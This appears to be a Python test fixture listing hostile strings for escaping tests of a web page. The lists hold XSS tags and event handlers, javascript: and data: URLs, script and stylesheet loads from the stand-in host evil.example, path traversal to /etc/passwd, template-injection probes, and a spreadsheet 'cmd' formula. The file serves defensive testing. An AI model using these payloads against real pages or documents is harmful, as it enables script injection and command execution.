"""Hostile strings: a page that did not escape them would run, load or hide something, or lose its structure.

Scripts in them set `ran`, which nothing else defines, and addresses in them have the host `evil.example`.
"""

import json

RUN = "ran=1"
HOST = "evil.example"

TAGS = [
    f"<script>{RUN}</script>", f"<SCRIPT>{RUN}</SCRIPT>", f"<script\n>{RUN}</script\n>", f"<script/x>{RUN}</script/x>",
    f"<script src=//{HOST}/a.js></script>", f"</script><script>{RUN}</script>", f"<<script>{RUN}//<</script>",
    f"<svg><script>{RUN}</script></svg>", f"<svg><script>{RUN}&lt;/script></svg>", f"<svg onload={RUN}>",
    f"<svg><style><img src=x onerror={RUN}></style></svg>", f"<math><mi><style><img src onerror={RUN}></style></mi></math>",
    f"<math><annotation-xml encoding='text/html'><img src onerror={RUN}></annotation-xml></math>",
    f"<svg><animate attributeName=href values=javascript:{RUN}></svg>", f"<svg><foreignObject><body onload={RUN}>",
    f"<img src=x onerror={RUN}>", f"<img src=x onerror={RUN}//", f"<img/src=x/onerror={RUN}>", f"<image src=x onerror={RUN}>",
    f"<img src=http://{HOST}/a.png>", f"<img src='x' onerror='{RUN}'>", f'<img src="x" onerror="{RUN}">',
    f"<img src=`x` onerror=`{RUN}`>", f"<img srcset=//{HOST}/a.png>", f"<iframe src=javascript:{RUN}></iframe>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'>", f"<object data=javascript:{RUN}>", f"<embed src=javascript:{RUN}>",
    f"<video><source onerror={RUN}></video>", f"<audio src=x onerror={RUN}>", f"<body onload={RUN}>", f"<html onclick={RUN}>",
    f"<input autofocus onfocus={RUN}>", f"<select autofocus onfocus={RUN}>", f"<details open ontoggle={RUN}>x</details>",
    f"<marquee onstart={RUN}>", f"<a href=javascript:{RUN}>x</a>", f"<a href=//{HOST}>x</a>", f"<form action=//{HOST}><button>x",
    f"<button formaction=javascript:{RUN}>x</button>", f"<isindex action=javascript:{RUN}>", f"<base href=//{HOST}/>",
    f"<link rel=stylesheet href=//{HOST}/a.css>", f"<link rel=import href=//{HOST}>", f"<meta http-equiv=refresh content=0;url=//{HOST}>",
    f"<style>@import '//{HOST}/a.css'</style>", "<style>*{display:none}</style>", "</style><b>x</b>", f"<p style=background:url(//{HOST})>",
    "</title><b>x</b>", "</textarea><b>x</b>", "</pre></code></p><b>x</b>", "</a><b>x</b>", "</dd></dl></main><b>x</b>",
    "</td></tr></table><b>x</b>", "</li></ul></ol></nav><b>x</b>", "</div></div></div></body></html><b>x</b>", "</h1><b>x</b>",
    "</svg></math><b>x</b>", "</select></option><b>x</b>", "</bdi></bdo></span><b>x</b>", "</section></article></aside><b>x</b>",
    "<table><tr><td>x", "<tr><td>x</td></tr>", "<p>x<p>y", "<li>x", "<dt>x<dd>y", "<b>x", "<b><i>x</b></i>", "<a>x<a>y", "<nobr>x<nobr>y",
    "<form>x<form>y", "<h1>x", "<frameset><frame></frameset>", "<head><title>x</title></head>", "<body class=x>", "<html lang=x>",
    "<template>x</template>", "<noscript>x</noscript>", "<plaintext>x", "<xmp>x", "<listing>x", "<textarea>x", "<title>x", "<select><option>x",
    "<iframe>x", "<noembed>x", "<noframes>x", "<slot>x", "<dialog open>x</dialog>", "<portal>x", "<custom-element>x", "<x:y>z",
    "<!doctype html><p>x", "<!doctype", "<!-- x", "<!-- x -->", "<!-->x", "<!--->x", "-->x", "--!>x", "<!x", "<?x", "<?xml version='1.0'?>",
    f"<?php {RUN} ?>", "<![CDATA[x", "<![CDATA[<b>x</b>]]>", "]]><b>x</b>", "<", "<<", "<>", "</", "</>", "<a", "<a ", "<a b", "<a b=", "<a b='",
    "< b>x</b>", "<\tb>x", "<\x00b>x</b>", "<b\x00>x</b>", "<scr\x00ipt>ran=1</scr\x00ipt>", "<b/>", "<b//>x", ">", ">>", "x > y < z",
    "＜script＞ran=1＜/script＞", "<ſcript>ran=1</ſcript>", "\u00abscript\u00bbran=1", "<img\u00a0src=x\u2003onerror=ran=1>",
    "+ADw-script+AD4-ran=1+ADw-/script+AD4-", "\\x3cscript\\x3eran=1", "\\u003cscript\\u003eran=1", "%3Cscript%3Eran=1%3C/script%3E",
]

ATTRIBUTES = [
    "\"", "'", "`", "\"\"", "''", "\">", "'>", "`>", f"\" onclick={RUN} x=\"", f"' onclick={RUN} x='", f"` onclick={RUN} x=`",
    f"\" autofocus onfocus={RUN} ", f"' autofocus onfocus={RUN} ", f"\"><script>{RUN}</script>", f"'><script>{RUN}</script>",
    f"x onerror={RUN}", f"x/onerror={RUN}", f"\"/onerror={RUN}/\"", f"\\\" onclick={RUN}", f"\\' onclick={RUN}", f"&quot; onclick={RUN} x=&quot;",
    f"&#34; onclick={RUN} x=&#34;", f"&#x27 onclick={RUN}", "\" style=\"display:none", "\" class=\"end", "\" id=\"_content", "\" hidden \"",
    "\"\n", "'\n\n", "=", "= =", "\" =\"", "a=b", "/", "/>", "\"/>", f"\u201d onclick={RUN} \u201d", f"\uff02 onclick={RUN} \uff02", f"\u2033 onclick={RUN}",
    "expression(ran=1)", f"x;background:url(//{HOST})", "}*{display:none}", "{", "}", "\\", "\\\\", "\\0", "\\\n",
]

ENTITIES = [
    "&", "&&", "&;", "&amp;", "&amp", "&amp;amp;", "&lt;b&gt;", "&lt", "&lt;script&gt;ran=1&lt;/script&gt;", "&#60;b&#62;", "&#60b", "&#x3c;b&#x3e;",
    "&#0000060;b", "&#x0;", "&#0;", "&#xD800;", "&#x110000;", "&#99999999999;", "&#", "&#x", "&#;", "&#xg;", "&notit;", "&notin;", "&not", "&copy=1",
    "&NewLine;", "&Tab;", "&colon;", "&lpar;", "&nbsp;", "&shy;", "&zwnj;", "&#8238;", "&#13;", "&#10;", "&quot;", "&apos;", "&#39;", "&lt;!--", "a&b=c&amp;d",
]

SCHEMES = [
    f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f"javascript://%0a{RUN}", f" javascript:{RUN}", f"\tjavascript:{RUN}", f"\njavascript:{RUN}",
    f"java\tscript:{RUN}", f"java\nscript:{RUN}", f"java\rscript:{RUN}", f"javascript\t:{RUN}", f"\x01javascript:{RUN}", f"\x1fjavascript:{RUN}",
    f"\x00javascript:{RUN}", f"java\x00script:{RUN}", f"\u00a0javascript:{RUN}", f"\ufeffjavascript:{RUN}", f"\u2028javascript:{RUN}",
    f"\u202ejavascript:{RUN}", f"java\u200bscript:{RUN}", f"javascript&colon;{RUN}", f"javascript&#58;{RUN}", f"java&#x73;cript:{RUN}", f"javascript%3A{RUN}",
    f"j&#97;v&#97;script:{RUN}", f"javascript\uff1a{RUN}", f"\u017favascript:{RUN}", f"feed:javascript:{RUN}", f"view-source:javascript:{RUN}",
    f"jar:javascript:{RUN}!/", f"livescript:{RUN}", f"mocha:{RUN}", f"vbscript:{RUN}", f"VBScript:{RUN}", f"vb\tscript:{RUN}", f"data:text/html,<script>{RUN}</script>",
    f"DATA:text/html;base64,PHNjcmlwdD5yYW49MTwvc2NyaXB0Pg==", f"data:image/svg+xml,<svg onload={RUN}>", "data:image/png;base64,iVBORw0KGgo=", "da\nta:text/html,x", "data:,x",
    "file:///etc/passwd", "FILE:///etc/passwd", "file:x", "blob:null/x", "filesystem:x", "about:blank", "chrome://settings", "ws://evil.example", "ftp://evil.example",
    "intent:x", "tel:1", "sms:1", "x:y", "C:\\x", f"//{HOST}", f"//{HOST}/x", f"///{HOST}", f"////{HOST}", f"\\\\{HOST}", f"/\\{HOST}", f"\\/{HOST}", f"\\//{HOST}", f" //{HOST}", f"\t//{HOST}",
    f"/\t/{HOST}", f"/\n/{HOST}", f"\x00//{HOST}", f"\u3000//{HOST}", f"http://{HOST}", f"HTTPS://{HOST}/\"><b>", f"https:{HOST}", f"https:/{HOST}", f"https:\\\\{HOST}", f"http:///{HOST}",
    f"http://a@{HOST}", f"http://{HOST}\\@a", f"https://{HOST}/?a=<b>&c='\"`{{}}|\\^ #<x>", f"ht\ttp://{HOST}", "mailto:a@evil.example?subject=<b>", "mailto:\"><b>x", "MAILTO:a",
    "../../../../etc/passwd", "..\\..\\x", "/etc/passwd", "?a=<b>", "#<b>", "#\" onclick=ran=1", ".", "..", "./", "a/../../b", "%2e%2e/x", "%00", "%", "%zz", "a b", "a\u00a0b",
    "xn--a", ":", "::", ":x", "x:", "?:x", "#:x", "/:x", "&#x6A;avascript:ran=1", "@", "a@b", "[::1]", "http://[", "http://a b", "http://\u202ea", "https://example.com/\u2028",
]

MARKDOWN = [
    *(f"[a]({address})" for address in SCHEMES[:9]), *(f"![a]({address})" for address in SCHEMES[:9]), *(f"<{address}>" for address in SCHEMES[:3]),
    f"[a](<javascript:{RUN}>)", f"[a](<java\tscript:{RUN}>)", f"[a](javascript&colon;{RUN})", f"[a](java&NewLine;script:{RUN})", f"[a](&#1;javascript:{RUN})", f"[a](\\javascript:{RUN})",
    f"[a][b]\n\n[b]: javascript:{RUN}", f"[b]\n\n[b]: data:text/html,x 'c'", f"[a](//{HOST})", f"[a](\\\\{HOST})", f"[a](/&Tab;/{HOST})", f"[a](&sol;&sol;{HOST})", f"![a](//{HOST}/a.png)", f"![a](http://{HOST}/a.png)", f"![*a*](HTTPS://{HOST}/a.png 't')", f"[![a](http://{HOST}/a.png)](c)", f"![![a](http://{HOST}/a.png)](http://{HOST}/b.png)", f"![a][b]\n\n[b]: http://{HOST}/a.png",
    f"[a](https://{HOST} \"\\\" onclick={RUN} x=\\\"\")", f"[a](https://{HOST} '\"><b>')", f"![\"><b>](a.png)", f"![a](a.png \"' onerror={RUN} '\")", "[<b>x</b>](a)", "[a](b\"onclick=\"ran=1)", "[![a](b)](c)",
    f"[a](vbscript:{RUN})", "[a](file:///etc/passwd)", "[a](DATA:text/html,x)", f"[a](javascript:{RUN} \"t\")", f"[a](  javascript:{RUN}  )", f"[a](JAVASCRIPT:{RUN})", f"<https://{HOST}/\">", f"<a@{HOST}>",
    f"<javascript:{RUN}>", "*a*", "**a**", "***a***", "_a_ __b__", "`a`", "`<b>`", "``` `` ```", "# a", "###### a", "a\n=", "a\n-", "- a\n- b", "* a\n\n  b", "1. a\n2. b", "99999999999. a", "007. a", "> a\n> > b",
    "    a", "\ta", "```\n<b>\n```", "```\"onclick=ran=1\na\n```", "```html\n<script>ran=1</script>\n```", "~~~ a\"b\nc", "```", "---", "***", "* * *", "a  \nb", "a\\\nb", "\\<b\\>", "\\[a\\](b)", "[a]", "[a][]", "[a]: b", "![a]",
    "| a | b |\n|---|---|\n| c | d |", "- [ ] a", "- [x] <b>", "~~a~~", "[^1]\n\n[^1]: <b>", "a[^1]", ":smile:", "$a$", "==a==", "{#id .class onclick=ran=1}", "# a {#b}", "[a]{onclick=ran=1}", "[[a]]", "<b>*a*</b>", "*<b>a*</b>",
    "<div>\n\n*a*\n\n</div>", "<pre>\n*a*\n</pre>", "<!-- *a* -->", "<?a *b* ?>", "<script>\n\n*a*\n\n</script>", "<style>\n*a*\n\n</style>", "<b\n\nx", "<div\nonclick=ran=1>x</div>", "</div>\n\nx", "<table><tr><td>\n\n*a*", "[<](>)", "a<!--b-->c",
    "*a **b*c**", "**<b>**", "[*a](b)*", "`[a](b`)", "![a](b)" * 30, "> - 1. > - x", "-\n  -\n    -\n      x", "*" * 60, "[" * 60, "]" * 60, "_a*b_c*", "&lt;b&gt; *a*", "<b>&amp;</b>", "\u00a0# a", "#\u00a0a", "\ufeff# a", "[a](<>)", "[](a)", "![](a)",
    "*a **a " * 20 + "b" + " a** a*" * 20, "> " * 20 + "a", "- " * 20 + "a", "*a **a " * 400 + "b" + " a** a*" * 400, "> " * 400 + "a", "- " * 400 + f"<img src=x onerror={RUN}>", "<b>" + "*a " * 200 + "b" + "*" * 200, f"[a](javascript:{RUN})\n" + "> " * 40 + "<b>", "\n".join("  " * n + "- a" for n in range(300)),
]

TEMPLATES = [
    "{{item.text}}", "{{ site.title }}", "{{{item.text}}}", "{{&item.text}}", "{{#items}}", "{{/items}}", "{{#items}}x{{/items}}", "{{^items}}x", "{{> bar}}", "{{>layout}}", "{{! x", "{{!x}}", "{{", "}}", "{{}}", "{{{{", "}}}}", "{{.}}",
    "{{=<% %>=}}", "<%= x %>", "<? x ?>", "${x}", "#{x}", "{% include x %}", "{%- x -%}", "[[${x}]]", "{{constructor.constructor('ran=1')()}}", "{{7*7}}", "@{x}", "%s%n%x", "{0}", "{shown}", "{total}", "$& $1 $` $'", "\U000F0000", "\U000F0001\U000F0002x",
    "\U000FFFFD", "\ue000", "\uf8ff", "\U00100000", "---\ntitle: x\n---", "---\nlayout: none\n---\n", "title: x", "- !!python/object:x", "&a *a", "<div class=\"bar-right\">", "<body>", "<div class=\"problem\">", "{{content}}", "{{screen.title}}", "NULL", "null",
    "undefined", "[object Object]", "__proto__", "constructor", "toString", "hasOwnProperty",
]

BIDI = "\u202a\u202b\u202d\u202e\u2066\u2067\u2068"
CONTROLS = [
    *(f"a{mark}b<b>c" for mark in BIDI), "\u202ctxet", "\u2069x\u2069", "\u202e" * 100 + "x", "\u2066\u202e\u2066x", "\u200ex\u200f", "\u061cx", "\u202egnp.exe", "\u202e</b>\u202c<b>", "\u05d0\u05d1 <b> \u05d2", "\u0627\u0644\u0639\u0631\u0628\u064a\u0629 <b>",
    "a\u2028b", "a\u2029b", "a\u0085b", "a\u000bb", "a\u000cb", "a\rb", "a\r\nb", "a\nb", "\na", "\n\na\n", "\ra", "a\r", "a\tb", "\ta", "a\x00b", "\x00", "\x00<b>", "<b>\x00", "a\x00\x00b", *(f"a{chr(code)}b" for code in (1, 7, 8, 0x1B, 0x1F, 0x7F, 0x80, 0x9F)),
    "\x1b[31mred\x1b[0m", "\x1b]0;x\x07", "a\ufeffb", "\ufeffa", "a\u200bb", "a\u200cb\u200dc", "a\u00adb", "a\ufffdb", "a\ufffeb", "a\uffffb", "a\U0001fffeb", "a\U0010ffffb", "\u0301a", "a" + "\u0301" * 200, "e\u0301", "\u00e9", "\U0001f468\u200d\U0001f469\u200d\U0001f467", "\U000e0041\U000e0042",
    "\ufb01", "\u1e9e\u00df", "\u0130\u0131", "\uff1cb\uff1e", "\u2060x", "\u180ex", "\u3164", "\u2800", "\u00a0x\u00a0", "x" + " " * 300 + "y", "x" + "\n" * 300 + "y",
]

FORMULAS = ["=1+1", "+1", "-1+1", "@SUM(A1)", "=cmd|'/c calc'!A1", "=HYPERLINK(\"http://evil.example\")", "\t=1", "\r=1", "\n=1", "'=1", "\"=1\"", "=1\n=2", "a,=1", "a;=1", "a\",\"=1", "\u202e=1", "\uff1d1+1", "-", "+", "--1", "-1e", "0x10", "sep=;"]

SEPARATORS = ["\"", ",", "\r\n", "a,b", "a\"b", "a\nb", "\"a\"\"b\""]

WORDS = ["a" * 5000, "<" * 2000, "&" * 2000, "\"" * 2000, "<b>" * 700, "a " * 2000, "\u202e" * 500, "*" * 2000, "x" * 300 + "/" + "y" * 300, "\U0001f600" * 300]

# Strings with one megabyte of a single character, which are too large to test in all positions at once.
LARGE = [character * 1_000_000 for character in "a<&\"*[>\n\u202e"]

# One text of each kind, for tests with a single text.
FEW = [
    TAGS[0], TAGS[15], TAGS[16], "</title><b>x</b>", "<!--", "<![CDATA[x", "\">", "'>", "` x", ATTRIBUTES[8], "&lt;b&gt;", "&#60;b", SCHEMES[0], SCHEMES[6], f"//{HOST}", "[a](javascript:ran=1)", "# a", "*a*", "{{item.text}}",
    "{{> bar}}", "---\nlayout: none\n---\n", "\u202ex", "\u2066x", "a\u2028b", "a\x00b", "a\rb", "=1+1", "a,b;\"c\"", "\U000F0000", "../../x", "a\nb", "<", "&", "x" * 300, "</script><script>ran=1</script>",
]

PAYLOADS = list(dict.fromkeys([
    *TAGS, *ATTRIBUTES, *ENTITIES, *SCHEMES, *MARKDOWN, *TEMPLATES, *CONTROLS, *FORMULAS, *SEPARATORS, *WORDS, *FEW,
]))

# Long strings are omitted, because keys of more than 1,000 bytes are errors. Another string is omitted, because its key would be
# equivalent to an existing one and share its column.
KEYS = [text for text in PAYLOADS if text != "e\u0301" and len(json.dumps(text)) <= 500]
